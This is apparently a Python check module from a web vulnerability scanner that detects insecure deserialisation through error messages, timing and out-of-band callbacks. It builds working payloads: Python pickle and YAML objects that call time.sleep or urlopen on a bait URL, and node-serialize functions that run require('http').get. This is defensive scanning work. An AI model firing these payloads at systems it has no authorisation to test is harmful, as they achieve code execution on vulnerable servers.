"""Objects that are built from what the request says: PHP, Python pickles, Node, Java and .NET."""

import base64
import binascii
import json
import re
from collections.abc import Callable, Iterator

from scanners.web.message import Request
from scanners.web.points import Part, Point, Where
from scanners.web.probing.check import PointCheck
from scanners.web.probing.complaint import Complaint, complains
from scanners.web.probing.delays import Line, filled, obeys
from scanners.web.probing.difference import Pair, depends
from scanners.web.probing.page import Page
from scanners.web.probing.taken import BAIT, Taken, takes
from scanners.web.probing.trial import Bait, Probing, Trial
from scanners.web.probing.weakness import Verdict, WebClass
from secops.model.finding import Severity
from secops.model.text import Text

_COMPLAINTS = re.compile(
    r"java\.io\.(StreamCorrupted|InvalidClass|EOF)Exception|invalid stream header|SerializationException|BinaryFormatter"
    r"|incompatible marshal file format",
    re.IGNORECASE,
)
"""Of Java, .NET and Ruby. A complaint of PHP or Python proves nothing: both also complain when they build no objects."""
_REFUSING = (("Closure", "Clousre"), ("DateTime", "DateTmie"), ("Generator", "Genreator"))
"""Classes of PHP that refuse to be built from text, and names of the same letters that nobody has."""
_JAVASCRIPT = "_$$ND_FUNC$$_function(){{body}}()"


class Deserialization(PointCheck):
    """Objects that refuse to be built, that wait while they are built, or that ask for a bait."""

    name = "deserialization"
    title = Text("不安全的反序列化", "insecure deserialisation")
    weakness = WebClass.DESERIALIZATION
    severity = Severity.CRITICAL
    cwe = 502
    clauses = ("8.1.4.4 d",)
    mend = Text(
        "不要反序列化来自客户端的对象;改用 JSON 等纯数据格式,或先校验签名。",
        "Build no objects from what a client sends; use plain data such as JSON, or check a signature first.",
    )

    def fits(self, point: Point) -> bool:
        """Base64, serialised text, or a string of JSON."""
        return point.part is Part.VALUE and (_encoded(point.value) or point.where is Where.JSON or ":" in point.value)

    def probe(self, point: Point, page: Page, trial: Trial) -> Probing:
        """Error, time, listener."""
        write = _in_base64 if _encoded(point.value) else str
        pairs = [(write(_php_object(real)), write(_php_object(unreal))) for real, unreal in _REFUSING]
        told = yield from depends(trial, point.inject, pairs)
        if told:
            return _refused(pairs, told)
        complaint = yield from complains(trial, point, _COMPLAINTS, ("rO0ABXNyAAFY",) if write is _in_base64 else ())
        if complaint:
            return _complained(complaint)
        for form in _objects("{s}", "{ms}"):
            line = yield from obeys(trial, _delayed(point, form, write), page.seconds)
            if line:
                return _waited(line, filled(form, 2))
        for form in _asking():
            taken = yield from takes(trial, _baited(point, form, write))
            if taken:
                return _took(taken, form)
        return None


def _encoded(value: str) -> bool:
    """Base64 of four characters and more."""
    if len(value) < 4 or not re.fullmatch(r"[A-Za-z0-9+/_-]+={0,2}", value):
        return False
    try:
        base64.b64decode(value + "=" * (-len(value) % 4), altchars=b"-_" if set(value) & set("-_") else None)
    except binascii.Error:
        return False
    return value.endswith("=") or len(value) >= 12


def _in_base64(text: str) -> str:
    return base64.b64encode(text.encode("latin-1")).decode()


def _php_object(name: str) -> str:
    return f'O:{len(name)}:"{name}":0:{{}}'


def _objects(seconds: str, milliseconds: str) -> Iterator[str]:
    """Objects that wait while they are built."""
    yield f"ctime\nsleep\n(F{seconds}\ntR."
    yield f"!!python/object/apply:time.sleep [{seconds}]"
    yield json.dumps({"py/reduce": [{"py/function": "time.sleep"}, {"py/tuple": ["SECONDS"]}]}).replace(
        '"SECONDS"', seconds
    )
    busy = f"var t=Date.now()+{milliseconds};while(Date.now()<t);"
    yield from _functions(busy)


def _functions(body: str) -> Iterator[str]:
    code = _JAVASCRIPT.replace("{body}", body)
    yield json.dumps({"x": code})
    yield code


def _asking() -> Iterator[str]:
    """Objects that ask for the bait while they are built."""
    yield f"curllib.request\nurlopen\n(S'{BAIT}'\ntR."
    yield f"!!python/object/apply:urllib.request.urlopen ['{BAIT}']"
    yield from _functions(f"require('http').get('{BAIT}')")


def _delayed(point: Point, form: str, write: Callable[[str], str]) -> Callable[[float], Request]:
    return lambda seconds: point.inject(write(filled(form, seconds)))


def _baited(point: Point, form: str, write: Callable[[str], str]) -> Callable[[Bait], Request]:
    return lambda bait: point.inject(write(form.replace(BAIT, bait.url)))


def _refused(pairs: list[Pair], told: list[str]) -> Verdict:
    because = Text(
        f"PHP 会按请求构造对象:{len(pairs)} 组类名(禁止反序列化的与不存在的,字母相同)应答稳定不同,例如“{told[0]}”",
        f"PHP builds the objects that the request names: {len(pairs)} classes that refuse it and unknown ones of the same "
        f"letters always differ, e.g. in “{told[0]}”",
    )
    return Verdict(because, {"refusing": pairs[0][0], "unknown": pairs[0][1]}, rule="objects")


def _complained(complaint: Complaint) -> Verdict:
    because = Text(
        f"残缺的序列化数据使反序列化报错“{complaint.words}”,换成字母则没有",
        f"a broken object is complained of (“{complaint.words}”), letters are not",
    )
    return Verdict(because, {"payload": complaint.payload, "response": complaint.excerpt}, rule="error")


def _waited(line: Line, payload: str) -> Verdict:
    because = line.because
    sentence = Text(f"反序列化时执行了等待代码:{because.zh}", f"building the object ran code that waits: {because.en}")
    return Verdict(sentence, {"payload": payload}, rule="time")


def _took(taken: Taken, form: str) -> Verdict:
    return Verdict(taken.because, {"payload": form, "hit": taken.shown}, rule="out-of-band")


DESERIALIZATION = Deserialization()
